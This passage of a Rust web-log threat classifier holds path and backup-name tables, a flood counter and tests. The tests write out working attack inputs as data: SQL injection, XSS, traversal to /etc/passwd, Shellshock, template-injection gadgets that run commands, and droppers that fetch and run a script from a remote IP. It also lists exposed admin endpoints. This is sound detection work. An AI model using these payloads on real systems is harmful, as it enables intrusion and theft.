    if !SENSITIVE_PARENTS.contains(parent) {
        return false;
    }
    let is = |s: &[u8], expected: &[u8]| s.eq_ignore_ascii_case(expected);
    // API versions first: the parents ordinary traffic has most.
    if parent.len() == 2 {
        return if is(parent, b"v1") {
            CLUSTER_RESOURCES.contains(name)
        } else {
            // etcd's key space.
            is(name, b"keys")
        };
    }
    if is(parent, b"actuator") || is(parent, b"manage") || is(parent, b"management") {
        ACTUATOR_ENDPOINTS.contains(name)
    } else if is(parent, b"debug") {
        // Go's profiler and expvar; Yii's debug module (`/debug/default/view`).
        is(name, b"pprof") || is(name, b"vars") || is(name, b"default")
    } else if is(parent, b"manager") || is(parent, b"host-manager") {
        // Tomcat's manager: deploys code.
        TOMCAT_MANAGER_PAGES.contains(name)
    } else if is(parent, b"system") {
        // Apache Felix's web console (AEM, Sling).
        is(name, b"console")
    } else if is(parent, b"etc") {
        ETC_FILES.contains(name)
    } else if is(parent, b"solr") {
        // Solr's admin API (`/solr/admin/cores`, `/solr/admin/info/system`).
        is(name, b"admin")
    } else if is(parent, b"druid") {
        DRUID_PAGES.contains(name)
    } else if is(parent, b"horizon") {
        // Laravel Horizon's dashboard and its API.
        is(name, b"api") || is(name, b"dashboard")
    } else if is(parent, b"jenkins") {
        JENKINS_PAGES.contains(name)
    } else if is(parent, b"rails") {
        // `/rails/info/properties`, `/rails/info/routes`.
        is(name, b"info")
    } else if is(parent, b"agent") {
        // Consul's `/v1/agent/self`.
        is(name, b"self")
    } else if is(parent, b"containers") {
        // Docker's API (`/containers/json`): runs containers for anyone.
        is(name, b"json")
    } else {
        is(parent, b"proc") && is(name, b"self")
    }
}

/// Extensions of backups, swap and temporary files, database dumps and
/// files, logs, private keys and keystores, and infrastructure state.
static BACKUP_EXTENSIONS: WordSet = WordSet::new(&[
    "db", "bak", "bkp", "jks", "key", "log", "mdb", "old", "p12", "pem", "pfx", "ppk", "rdb",
    "sql", "swn", "swo", "swp", "tmp", "dump", "kdbx", "orig", "ovpn", "save", "backup", "sqlite",
    "tfvars", "sqlite3", "tfstate", "keystore",
]);

/// Extensions of server-side code and configuration: a second extension
/// after one of these (`index.php.txt`, `settings.py.1`, `web.config.dist`)
/// is a copy left beside the original, served as source.
static SOURCE_EXTENSIONS: WordSet = WordSet::new(&[
    "pl", "py", "rb", "sh", "asp", "cfg", "cgi", "env", "inc", "ini", "jsp", "php", "yml", "aspx",
    "conf", "yaml", "config",
]);

/// Directories that hold backups: any archive in one (`/backups/latest.tar.gz`,
/// `/old/site.zip`) is a backup, whatever its name.
static BACKUP_DIRECTORIES: WordSet = WordSet::new(&[
    "bak", "bkp", "old", "dump", "dumps", "backup", "_backup", "backups", "_backups",
]);

/// Whether `name` has an archive's extension.
fn is_archive(name: &[u8]) -> bool {
    memchr::memrchr(b'.', name).is_some_and(|dot| ARCHIVE_EXTENSIONS.contains(&name[dot + 1..]))
}

/// Archive extensions.
static ARCHIVE_EXTENSIONS: WordSet =
    WordSet::new(&["7z", "gz", "xz", "bz2", "rar", "tar", "tgz", "zip", "zst"]);

/// Names of archives of a whole site or database.
static SITE_ARCHIVE_STEMS: WordSet = WordSet::new(&[
    "db",
    "bak",
    "old",
    "sql",
    "web",
    "www",
    "dump",
    "html",
    "root",
    "site",
    "backup",
    "htdocs",
    "backups",
    "inetpub",
    "webroot",
    "website",
    "wwwroot",
    "database",
    "httpdocs",
    "public_html",
]);

/// Backups and dumps: `*.bak`, `*.old`, `*~`, `*.sql`, `*.sql.gz`, and
/// archives of a whole site (`backup.zip`, `www.tar.gz`, `public_html.zip`).
fn is_backup_name(name: &[u8]) -> bool {
    // An editor's backup: `index.php~`.
    if name.ends_with(b"~") {
        return name.contains(&b'.');
    }
    let Some(dot) = memchr::memrchr(b'.', name) else {
        return false;
    };
    let (stem, extension) = (&name[..dot], &name[dot + 1..]);
    if BACKUP_EXTENSIONS.contains(extension) {
        return true;
    }
    if let Some(inner) = memchr::memrchr(b'.', stem).map(|d| &stem[d + 1..]) {
        if SOURCE_EXTENSIONS.contains(inner) && !SOURCE_EXTENSIONS.contains(extension) {
            return true;
        }
    }
    if !ARCHIVE_EXTENSIONS.contains(extension) {
        return false;
    }
    // `db.sql.gz` is a dump; `site.tar.gz` is the archive `site`.
    let stem = match memchr::memrchr(b'.', stem) {
        Some(dot) if stem[dot + 1..].eq_ignore_ascii_case(b"sql") => return true,
        Some(dot) if stem[dot + 1..].eq_ignore_ascii_case(b"tar") => &stem[..dot],
        _ => stem,
    };
    // `backup.zip`, `site-backup.zip`, `2024_www.tar.gz`, `db-dump.7z`.
    stem.split(|&b| matches!(b, b'-' | b'_' | b'.' | b' '))
        .any(|word| starts_with_ignore_case(word, b"backup") || SITE_ARCHIVE_STEMS.contains(word))
}

// ---------------------------------------------------------------------------
// Byte-string helpers.

fn starts_with_ignore_case(s: &[u8], prefix: &[u8]) -> bool {
    s.len() >= prefix.len() && s[..prefix.len()].eq_ignore_ascii_case(prefix)
}

fn ends_with_ignore_case(s: &[u8], suffix: &[u8]) -> bool {
    s.len() >= suffix.len() && s[s.len() - suffix.len()..].eq_ignore_ascii_case(suffix)
}

fn strip_suffix_ignore_case<'a>(s: &'a [u8], suffix: &[u8]) -> &'a [u8] {
    if ends_with_ignore_case(s, suffix) {
        &s[..s.len() - suffix.len()]
    } else {
        s
    }
}

fn contains_ignore_case(haystack: &[u8], needle: &[u8]) -> bool {
    let Some(first) = needle.first() else {
        return true;
    };
    memchr::memchr2_iter(
        first.to_ascii_lowercase(),
        first.to_ascii_uppercase(),
        haystack,
    )
    .any(|i| {
        haystack
            .get(i..i + needle.len())
            .is_some_and(|w| w.eq_ignore_ascii_case(needle))
    })
}

/// Where the two-byte sequence `ab` first occurs.
fn find_pair(text: &[u8], a: u8, b: u8) -> Option<usize> {
    memchr::memchr_iter(a, text).find(|&i| text.get(i + 1) == Some(&b))
}

/// `f` applied to `word` in lower case; `None` if `word` is too long to be
/// any of the words the tables hold.
fn with_lowercase<R>(word: &[u8], f: impl FnOnce(&[u8]) -> R) -> Option<R> {
    let mut buf = [0u8; 32];
    let lower = buf.get_mut(..word.len())?;
    for (to, from) in lower.iter_mut().zip(word) {
        *to = from.to_ascii_lowercase();
    }
    Some(f(lower))
}

/// A set of short lower-case words, looked up ignoring ASCII case. The
/// words are sorted by length, then bytes ([`by_length`]), for a binary
/// search; bitmaps of the lengths each first and each last byte has turn
/// most lookups away before any comparison (the detector looks up every
/// path segment, and nearly none is in any set).
struct WordSet {
    words: &'static [&'static str],
    /// Bit `n` of entry `b`: some word of `n` bytes starts with byte `b`.
    starts: [u32; 128],
    /// Bit `n` of entry `b`: some word of `n` bytes ends with byte `b`.
    ends: [u32; 128],
}

impl WordSet {
    const fn new(words: &'static [&'static str]) -> WordSet {
        let mut starts = [0u32; 128];
        let mut ends = [0u32; 128];
        let mut i = 0;
        while i < words.len() {
            let word = words[i].as_bytes();
            let last = word.len().saturating_sub(1);
            assert!(!word.is_empty() && word.len() < 32 && word[0] < 128 && word[last] < 128);
            starts[word[0] as usize] |= 1 << word.len();
            ends[word[last] as usize] |= 1 << word.len();
            i += 1;
        }
        WordSet {
            words,
            starts,
            ends,
        }
    }

    fn contains(&self, word: &[u8]) -> bool {
        let (Some(first), Some(last)) = (word.first(), word.last()) else {
            return false;
        };
        let (first, last) = (first.to_ascii_lowercase(), last.to_ascii_lowercase());
        word.len() < 32
            && first < 128
            && last < 128
            && self.starts[first as usize] & self.ends[last as usize] & (1 << word.len()) != 0
            && self
                .words
                .binary_search_by(|k| by_length_ignoring_case(k.as_bytes(), word))
                .is_ok()
    }
}

/// The value for `key` in `table` (ordered like a [`WordSet`]'s words),
/// ignoring ASCII case.
fn lookup<T: Copy>(key: &[u8], table: &[(&str, T)]) -> Option<T> {
    with_lowercase(key, |k| {
        table
            .binary_search_by(|(name, _)| by_length(name.as_bytes(), k))
            .ok()
            .map(|i| table[i].1)
    })
    .flatten()
}

fn by_length(a: &[u8], b: &[u8]) -> std::cmp::Ordering {
    a.len().cmp(&b.len()).then_with(|| a.cmp(b))
}

/// [`by_length`] of `lower` (lower case) and `b` in lower case.
fn by_length_ignoring_case(lower: &[u8], b: &[u8]) -> std::cmp::Ordering {
    lower.len().cmp(&b.len()).then_with(|| {
        lower
            .iter()
            .copied()
            .cmp(b.iter().map(u8::to_ascii_lowercase))
    })
}

// ---------------------------------------------------------------------------
// Floods.

/// Counts requests per (zone, client IP) within one batch, for the rollup
/// to mark [`Threat::Flood`]: an IP that sends one zone more than
/// `threshold` requests in a batch is flooding it.
///
/// Zones are kept as 64-bit hashes, so a counter can be reused from batch
/// to batch — [`clear`](Self::clear) keeps its memory — without holding on
/// to the batch's strings; two zones of one batch sharing a hash is a
/// 1-in-2⁶⁴ event per pair. `S` is the map's hasher: the default is std's
/// (DoS-resistant); a faster seeded one can be plugged in.
///
/// ```
/// use std::net::IpAddr;
/// use aggregator::classify::threat::FloodCounter;
///
/// let mut floods = FloodCounter::new(2);
/// let ip: IpAddr = "198.51.100.7".parse().unwrap();
/// for _ in 0..3 {
///     floods.record("example.com", ip);
/// }
/// assert!(floods.is_flood("example.com", ip));
/// assert!(!floods.is_flood("example.org", ip));
/// floods.clear(); // next batch
/// assert_eq!(floods.count("example.com", ip), 0);
/// ```
#[derive(Debug, Clone)]
pub struct FloodCounter<S = RandomState> {
    counts: HashMap<(u64, IpAddr), u32, S>,
    threshold: u32,
}

impl FloodCounter {
    /// A counter that reports pairs with more than `threshold` requests.
    pub fn new(threshold: u32) -> FloodCounter {
        FloodCounter::with_hasher(threshold, RandomState::new())
    }
}

impl<S: BuildHasher> FloodCounter<S> {
    /// [`new`](FloodCounter::new) with the given hasher for the map.
    pub fn with_hasher(threshold: u32, hasher: S) -> FloodCounter<S> {
        FloodCounter {
            counts: HashMap::with_hasher(hasher),
            threshold,
        }
    }

    /// Counts one request from `ip` to `zone`; returns how many this batch
    /// has had so far, this one included.
    pub fn record(&mut self, zone: &str, ip: IpAddr) -> u32 {
        let count = self.counts.entry((zone_key(zone), ip)).or_insert(0);
        *count = count.saturating_add(1);
        *count
    }

    /// Requests from `ip` to `zone` counted so far in this batch.
    pub fn count(&self, zone: &str, ip: IpAddr) -> u32 {
        self.counts.get(&(zone_key(zone), ip)).copied().unwrap_or(0)
    }

    /// Whether `ip` has sent `zone` more than the threshold so far.
    pub fn is_flood(&self, zone: &str, ip: IpAddr) -> bool {
        self.count(zone, ip) > self.threshold
    }

    pub fn threshold(&self) -> u32 {
        self.threshold
    }

    /// Forgets every count (for the next batch), keeping the memory.
    pub fn clear(&mut self) {
        self.counts.clear();
    }
}

fn zone_key(zone: &str) -> u64 {
    xxhash_rust::xxh3::xxh3_64(zone.as_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn request<'a>(path: &'a str, query: &'a str) -> Record<'a> {
        Record {
            path,
            query,
            user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            ..Record::default()
        }
    }

    fn threats(path: &str, query: &str) -> Threats {
        classify(&request(path, query))
    }

    #[test]
    fn names_are_stable() {
        let names: Vec<_> = Threat::ALL.iter().map(|t| t.as_str()).collect();
        assert_eq!(
            names,
            [
                "sqli",
                "xss",
                "path_traversal",
                "command_injection",
                "scanner",
                "sensitive_file",
                "flood"
            ]
        );
    }

    #[test]
    fn threats_is_a_set() {
        let mut set = Threats::EMPTY;
        assert!(set.is_empty());
        set.insert(Threat::Xss);
        set.insert(Threat::Flood);
        set.insert(Threat::Xss);
        assert!(set.contains(Threat::Xss) && set.contains(Threat::Flood));
        assert!(!set.contains(Threat::SqlInjection));
        assert_eq!(set.iter().collect::<Vec<_>>(), [Threat::Xss, Threat::Flood]);
        assert_eq!(
            Threat::ALL.into_iter().collect::<Threats>().iter().count(),
            7
        );
        assert_eq!(format!("{set:?}"), r#"{"xss", "flood"}"#);
    }

    #[test]
    fn decoding() {
        let mut scratch = Scratch::new();
        let mut decode = |raw: &str, plus| scratch.decode(raw.as_bytes(), plus).0.to_vec();
        assert_eq!(decode("a+b%20c", true), b"a b c");
        assert_eq!(decode("a+b", false), b"a+b");
        assert_eq!(decode("%252e%252e%252f", false), b"../");
        assert_eq!(decode("..%c0%af..%c1%9c", false), b"../..\\");
        assert_eq!(decode("%u002e%u2215", false), b"./");
        assert_eq!(decode("100%", false), b"100%");
        assert_eq!(decode("%zz%4", false), b"%zz%4");
        assert_eq!(decode("%2B", true), b"+");
        let long = "%41".repeat(STACK_BYTES);
        assert_eq!(decode(&long, false), "A".repeat(STACK_BYTES).as_bytes());
    }

    #[test]
    fn plain_requests_are_clean() {
        for (path, query) in [
            ("/", ""),
            ("/static/js/app.3f9a1c2b.js", ""),
            ("/search", "q=red+running+shoes&page=2"),
            ("/search", "q=O%27Brien"),
            ("/search", "q=a%3Cb"),
            ("/wiki/Caf%C3%A9", ""),
            ("/api", "filter=%7B%22status%22%3A%22open%22%7D"),
            (
                "/fonts",
                "family=Roboto:wght@400;700|Open+Sans&display=swap",
            ),
            ("/api/users", "fields=name|id|email"),
            ("/img", "p=..%2Fimages%2Flogo.png"),
            ("/actuator/health", ""),
            ("/.well-known/acme-challenge/abc", ""),
            ("/downloads/app-2.3.1.tar.gz", ""),
        ] {
            assert_eq!(threats(path, query), Threats::EMPTY, "{path}?{query}");
        }
    }

    #[test]
    fn each_kind() {
        let sqli = threats("/item.php", "id=1%27%20OR%20%271%27%3D%271");
        assert!(sqli.contains(Threat::SqlInjection), "{sqli:?}");
        assert!(threats("/p", "id=1'").contains(Threat::SqlInjection));
        assert!(threats("/products/1'%20OR%20'1'='1", "").contains(Threat::SqlInjection));
        assert!(threats("/s", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").contains(Threat::Xss));
        assert!(threats("/login", "next=javascript:alert(1)").contains(Threat::Xss));
        assert!(threats("/dl", "file=..%2f..%2fetc%2fpasswd").contains(Threat::PathTraversal));
        assert!(threats("/static/../../etc/passwd", "").contains(Threat::PathTraversal));
        assert!(threats("/dl", "file=/etc/passwd").contains(Threat::PathTraversal));
        assert!(threats("/ping", "host=127.0.0.1%3Bid").contains(Threat::CommandInjection));
        assert!(threats("/ping", "host=%60id%60").contains(Threat::CommandInjection));
        assert!(threats("/.env", "").contains(Threat::SensitiveFile));
        assert!(threats("/.GIT/config", "").contains(Threat::SensitiveFile));
        let scanner = Record {
            user_agent: "sqlmap/1.7.2#stable (https://sqlmap.org)",
            ..request("/", "")
        };
        assert_eq!(classify(&scanner), [Threat::Scanner].into_iter().collect());
        let shellshock = Record {
            user_agent: "() { :; }; /bin/bash -c 'id'",
            ..request("/cgi-bin/status", "")
        };
        assert!(classify(&shellshock).contains(Threat::CommandInjection));
    }

    #[test]
    fn commands_need_their_shape() {
        let cmdi = |text: &str| command_injection(text.as_bytes(), Marks::of(text.as_bytes()));
        assert!(cmdi("x;cat /etc/passwd"));
        assert!(cmdi(";cat${IFS}/etc/passwd"));
        assert!(cmdi("|/bin/sh -c id"));
        assert!(cmdi("; sleep 10"));
        assert!(!cmdi("dog & cat food"));
        assert!(!cmdi("eat | sleep | repeat"));
        assert!(!cmdi(";category"));
        assert!(!cmdi("AT&T"));
        assert!(!cmdi("a;b;c"));
    }

    #[test]
    fn sensitive_paths() {
        for path in [
            "/.env.production",
            "/wp-config.php.bak",
            "/backup.tar.gz",
            "/db.sql",
            "/index.php~",
            "/actuator/env",
            "/debug/pprof/heap",
            "/PMA2/",
            "/manager/html",
            "/__debug__/",
            "/debug/default/view",
            "/system/console/bundles",
            "/cgi-bin/php.ini",
            "/Dockerfile",
            "/_wpeprivate/config.json",
            "/phpinfo2.php",
            "/heapdump",
        ] {
            assert!(is_sensitive_path(path.as_bytes()), "{path}");
        }
        for path in [
            "/envelope",
            "/actuator/health",
            "/backups/policy",
            "/setup.zip",
            "/~alice/",
            "/git/commits",
            "/pmarketing",
            "/phpinfo-explained",
            "/reference/dockerfile/",
            "/manager/reports",
        ] {
            assert!(!is_sensitive_path(path.as_bytes()), "{path}");
        }
    }

    #[test]
    fn endpoints_of_products() {
        let is = |path: &str| threats(path, "").contains(Threat::SensitiveFile);
        for path in [
            "/_debugbar/open",
            "/__clockwork/app",
            "/telescope/requests",
            "/nacos/v1/console/namespaces",
            "/jenkins/scriptText",
            "/script",
            "/env",
            "/actuator",
            "/actuator/loggers",
            "/solr/admin/cores",
            "/druid/websession.html",
            "/horizon/api/stats",
            "/rails/info/routes",
            "/v1/agent/self",
            "/api/v1/namespaces/default/secrets",
            "/v2/keys/",
            "/containers/json",
            "/_cat/indices",
            "/_cluster/health",
            "/_utils/",
            "/hawtio/",
            "/balancer-manager",
            "/phppgadmin/",
            "/cgi-bin/printenv.pl",
            "/wp-content/updraft/",
            "/backup/site-2024.tar.gz",
            "/old/www.7z",
            "/php_info.php",
        ] {
            assert!(is(path), "{path}");
        }
        for path in [
            "/script/app.js",
            "/scripts/",
            "/environment",
            "/actuator/health",
            "/products/telescope",
            "/shop/telescopes/",
            "/classes/druid/",
            "/api/v1/users",
            "/blog/backup-strategies",
            "/downloads/app-1.2.zip",
            "/horizon",
            "/acme/infra/raw/main/.env",
            "/acme/infra/-/raw/main/config/database.yml",
            "/acme/infra/refs/heads/main/docker-compose.yml",
            "/acme/web/blob/v2.0/config.json",
        ] {
            assert!(!is(path), "{path}");
        }
    }

    #[test]
    fn code_execution_gadgets() {
        let runs = |query: &str| threats("/page", query).contains(Threat::CommandInjection);
        for query in [
            // FreeMarker, Velocity, Thymeleaf/SpEL, EL reflection.
            "t=%3C%23assign+x%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E%24%7Bx(%22id%22)%7D",
            "t=%23set(%24e%3D%22%22)%24e.getClass().forName(%22java.lang.Runtime%22)",
            "t=__%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__%3A%3A.x",
            "t=%24%7B%27%27.getClass().forName(%27javax.script.ScriptEngineManager%27)%7D",
            // Jinja2 and Twig.
            "name=%7B%7Bcycler.__init__.__globals__.os.popen(%27id%27).read()%7D%7D",
            "name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D",
            "name=%7B%7B%5B%27cat+%2Fetc%2Fpasswd%27%5D%7Cmap(%27passthru%27)%7D%7D",
            "name=%7B%7B_self.env.registerUndefinedFilterCallback(%22exec%22)%7D%7D",
            // Drupal render arrays, SQL Server, PostgreSQL.
            "name%5B%23pre_render%5D%5B%5D=passthru",
            "id=1%3BEXEC+sp_OACreate+%27WScript.Shell%27",
            "id=1%27%3BCOPY+t+FROM+PROGRAM+%27id%27--",
            // A command handed to a shell parameter in base64 (`uname -a`).
            "system=dW5hbWUgLWE%3D",
            "q=echo+aWQ%3D+%7C+base64+-d+%7C+sh",
        ] {
            assert!(runs(query), "{query}");
        }
        for query in [
            "q=python+__class__+attribute",
            "q=what+does+__init__+do",
            "q=twig+filter+map",
            "q=node+child_process+exec",
            "system=android",
            "q=echo+aGVsbG8%3D+%7C+base64+-d",
            "q=ls+%7C+wc+-l",
            "q=ps+aux+%7C+grep+nginx",
        ] {
            assert!(!runs(query), "{query}");
        }
    }

    #[test]
    fn climbs_to_shells_system_directories_and_hives() {
        for (path, query, threat) in [
            (
                "/scripts/..%c0%af../winnt/system32/cmd.exe",
                "/c+dir",
                Threat::CommandInjection,
            ),
            (
                "/scripts/..%c1%1c../winnt/system32/cmd.exe",
                "/c+dir",
                Threat::CommandInjection,
            ),
            (
                "/cgi-bin/%2e%2e/%2e%2e/bin/bash",
                "",
                Threat::CommandInjection,
            ),
            (
                "/msadc/..%e0%80%af../winnt/system32/cmd.exe",
                "",
                Threat::PathTraversal,
            ),
            ("/static/..%5c..%5cboot.ini", "", Threat::SensitiveFile),
            (
                "/download",
                "f=..%5C..%5C..%5Cwindows%5Crepair%5Csystem",
                Threat::SensitiveFile,
            ),
            (
                "/download",
                "f=..%2F..%2F..%2F..%2Fproc%2Fversion",
                Threat::SensitiveFile,
            ),
            (
                "/download",
                "f=..%2F..%2F..%2Fusr%2Flocal%2Fetc%2Fphp.ini",
                Threat::SensitiveFile,
            ),
            ("/view", "file=..%252fconfig.txt", Threat::PathTraversal),
            ("/view", "file=..%5Cnotes.txt", Threat::PathTraversal),
        ] {
            assert!(
                threats(path, query).contains(threat),
                "{path}?{query} {threat:?}"
            );
        }
        // One relative climb as apps write one is not a traversal.
        assert!(threats("/view", "file=..%2Fshared%2Fheader.html").is_empty());
        assert!(threats("/view", "img=../images/logo.png").is_empty());
    }

    #[test]
    fn dashes_and_overlong_forms() {
        assert!(threats(
            "/feedback",
            "m=great+product+--+fast+shipping%2C+recommended"
        )
        .is_empty());
        assert!(threats("/reviews", "text=4%2F5+--+solid+but+pricey").is_empty());
        assert!(threats("/item", "id=1+or+1%3D1--+-").contains(Threat::SqlInjection));
        assert!(
            threats("/search", "q=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE")
                .contains(Threat::Xss)
        );
        // Real UTF-8 text is left alone.
        assert!(threats(
            "/search",
            "q=%E0%A4%A8%E0%A4%AE%E0%A4%B8%E0%A5%8D%E0%A4%A4%E0%A5%87"
        )
        .is_empty());
    }

    #[test]
    fn files_and_endpoints_in_context() {
        let sensitive = |path: &str, query: &str, referer: &str| {
            let record = Record {
                referer,
                ..request(path, query)
            };
            classify(&record).contains(Threat::SensitiveFile)
        };
        // JSON configuration: a probe from nowhere, a front end's asset
        // under its asset directory or when a page asks for it.
        assert!(sensitive("/config.json", "", ""));
        assert!(sensitive("/wp/config.json", "", "-"));
        assert!(!sensitive("/assets/config.json", "", ""));
        assert!(!sensitive("/config.json", "", "https://app.example.com/"));
        assert!(!sensitive("/tsconfig.json", "", ""));
        assert!(!sensitive("/api/v1/config.json", "", ""));
        assert!(!sensitive("/account/settings.json", "", ""));
        assert!(sensitive("/local.settings.json", "", ""));
        // A console at the root of a site, not deeper, nor as where to go.
        assert!(sensitive("/console/", "", ""));
        assert!(sensitive("/console/login/LoginForm.jsp", "", ""));
        assert!(!sensitive("/job/webapp/1305/console", "", ""));
        assert!(!sensitive("/console/ps5-slim", "", ""));
        assert!(!sensitive("/consoles/", "", ""));
        assert!(!threats("/login", "next=%2Fconsole").contains(Threat::PathTraversal));
        // A system file in a sentence is a question; after a newline that
        // opens the value, a command.
        let traversal = |q: &str| threats("/ask", q).contains(Threat::PathTraversal);
        assert!(!traversal("q=how+to+edit+%2Fetc%2Fhosts+on+mac%0A"));
        assert!(traversal("dest=%0A%2Fbin%2Fcat+%2Fetc%2Fpasswd"));
        // An encoded slash is part of a name; a climb still reaches the file.
        assert!(!sensitive("/wiki/%2Fetc%2Fpasswd", "", ""));
        assert!(sensitive("/etc/passwd", "", ""));
        assert!(sensitive("/static/..%2f..%2fetc%2fpasswd", "", ""));
        assert!(sensitive("/test.php", "phpinfo=1", ""));
        assert!(!sensitive("/blog", "topic=phpinfo", ""));
        let runs = |path: &str| threats(path, "").contains(Threat::CommandInjection);
        assert!(runs("/GponForm/diag_Form"));
        assert!(runs("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"));
        assert!(!runs("/forms/diagnostics"));
        let xss = |query: &str| threats("/api/jsonp", query).contains(Threat::Xss);
        assert!(xss("callback=alert(1)//"));
        assert!(!xss("callback=jQuery3510_1700000000000&_=1700000000001"));
        assert!(!xss("callback=angular.callbacks._0"));
        assert!(!xss(
            "callback=https%3A%2F%2Fapp.example.com%2Flogin%3Fnext%3D%2F"
        ));
    }

    #[test]
    fn sql_statements_in_context() {
        let sqli = |text: &str| sql_injection(text.as_bytes());
        assert!(sqli("1;SELECT * FROM users"));
        assert!(sqli("1;SELECT/**/*/**/FROM/**/users"));
        assert!(sqli("x');DROP TABLE users--"));
        assert!(sqli("1; exec master..xp_dirtree '//x/a'"));
        assert!(!sqli("step 1; select a size from the list"));
        assert!(sqli("sleep(5)#"));
        assert!(sqli("sleep(5) and 1=1"));
        assert!(!sqli("sleep(5) vs time.sleep"));
        assert!(!sqli("sleep(5) in python"));
    }

    #[test]
    fn droppers_are_command_injection_even_typed_whole() {
        let cmdi = |query: &str| threats("/device.rsp", query).contains(Threat::CommandInjection);
        assert!(cmdi(
            "mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F192.0.2.1%2Fx.sh%3Bsh%20x.sh"
        ));
        assert!(cmdi(
            "mdc=cd%20%2Ftmp%3Bcurl%20-O%20http%3A%2F%2F192.0.2.1%2Fx%3B.%2Fx"
        ));
        assert!(!cmdi("q=cat%20file.txt%20%7C%20wc%20-l"));
        assert!(!cmdi("q=wget%20vs%20curl%3B%20which%20is%20better"));
    }

    #[test]
    fn word_tables_are_ordered_lower_case_and_short() {
        let commands: Vec<&str> = COMMANDS.iter().map(|(name, _)| *name).collect();
        let references: Vec<&str> = NAMED_REFERENCES.iter().map(|(name, _)| *name).collect();
        for table in [
            SQL_ALWAYS.words,
            SQL_CONTEXTUAL.words,
            SQL_CALLS.words,
            JS_SINKS.words,
            SENSITIVE_NAMES.words,
            JSON_CONFIG_STEMS.words,
            CLIENT_DIRECTORIES.words,
            EXPLOIT_ENDPOINTS.words,
            REPOSITORY_FILES.words,
            CONFIG_FORMAT_EXTENSIONS.words,
            TOMCAT_MANAGER_PAGES.words,
            SENSITIVE_PARENTS.words,
            CALLBACK_PARAMETERS.words,
            ACTUATOR_ENDPOINTS.words,
            ETC_FILES.words,
            PUBLIC_DOT_DIRECTORIES.words,
            CONFIG_EXTENSIONS.words,
            SECRET_STEMS.words,
            CONFIG_STEMS.words,
            SOURCE_EXTENSIONS.words,
            COMMAND_PARAMETERS.words,
            PHP_EXEC.words,
            SYSTEM_DIRECTORIES.words,
            REGISTRY_HIVES.words,
            SHELLS.words,
            ROOT_TREES.words,
            ROOT_PAGES.words,
            DRUID_PAGES.words,
            CLUSTER_RESOURCES.words,
            JENKINS_PAGES.words,
            REPOSITORY_VIEWS.words,
            BACKUP_DIRECTORIES.words,
            BACKUP_EXTENSIONS.words,
            ARCHIVE_EXTENSIONS.words,
            SITE_ARCHIVE_STEMS.words,
            &commands,
            &references,
        ] {
            assert!(
                table
                    .windows(2)
                    .all(|w| by_length(w[0].as_bytes(), w[1].as_bytes()).is_lt()),
                "not sorted by length, then bytes: {table:?}"
            );
            for word in table {
                assert!(
                    word.len() <= 32 && *word == word.to_ascii_lowercase(),
                    "{word}"
                );
            }
        }
    }

    #[test]
    fn floods_count_per_zone_and_ip() {
        let mut floods = FloodCounter::new(3);
        let a: IpAddr = "192.0.2.1".parse().unwrap();
        let b: IpAddr = "2001:db8::1".parse().unwrap();
        for i in 1..=4 {
            assert_eq!(floods.record("z1", a), i);
        }
        floods.record("z1", b);
        floods.record("z2", a);
        assert!(floods.is_flood("z1", a));
        assert!(!floods.is_flood("z1", b));
        assert!(!floods.is_flood("z2", a));
        assert_eq!(floods.threshold(), 3);
        floods.clear();
        assert_eq!(floods.count("z1", a), 0);
    }

    fn record_from<'a>(path: &'a str, query: &'a str, ua: &'a str) -> Record<'a> {
        Record {
            path,
            query,
            user_agent: ua,
            referer: ua,
            ..Record::default()
        }
    }

    proptest! {
        #[test]
        fn never_panics_on_text(path in ".{0,200}", query in ".{0,300}", ua in ".{0,100}") {
            let _ = classify(&record_from(&path, &query, &ua));
        }

        #[test]
        fn never_panics_on_bytes(
            path in proptest::collection::vec(any::<u8>(), 0..200),
            query in proptest::collection::vec(any::<u8>(), 0..300),
        ) {
            let path = String::from_utf8_lossy(&path);
            let query = String::from_utf8_lossy(&query);
            let _ = classify(&record_from(&path, &query, &query));
        }

        #[test]
        fn never_panics_on_url_like_text(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("%"), Just("%2"), Just("%25"), Just("%27"), Just("%c0"), Just("%u"),
                    Just("%u2215"), Just("+"), Just("&"), Just("="), Just(".."), Just("/"),
                    Just("\\"), Just(";"), Just("|"), Just("$("), Just("${"), Just("`"),
                    Just("'"), Just("\""), Just("<"), Just(">"), Just("("), Just(")"),
                    Just("--"), Just("/*"), Just(" "), Just("or"), Just("select"), Just("cat"),
                    Just("id"), Just("sleep"), Just(".env"), Just("() {"), Just("jndi"),
                    Just("a"), Just("1"), Just("é"),
                ],
                0..40,
            )
        ) {
            let text = parts.concat();
            let _ = classify(&record_from(&text, &text, &text));
        }
    }
}
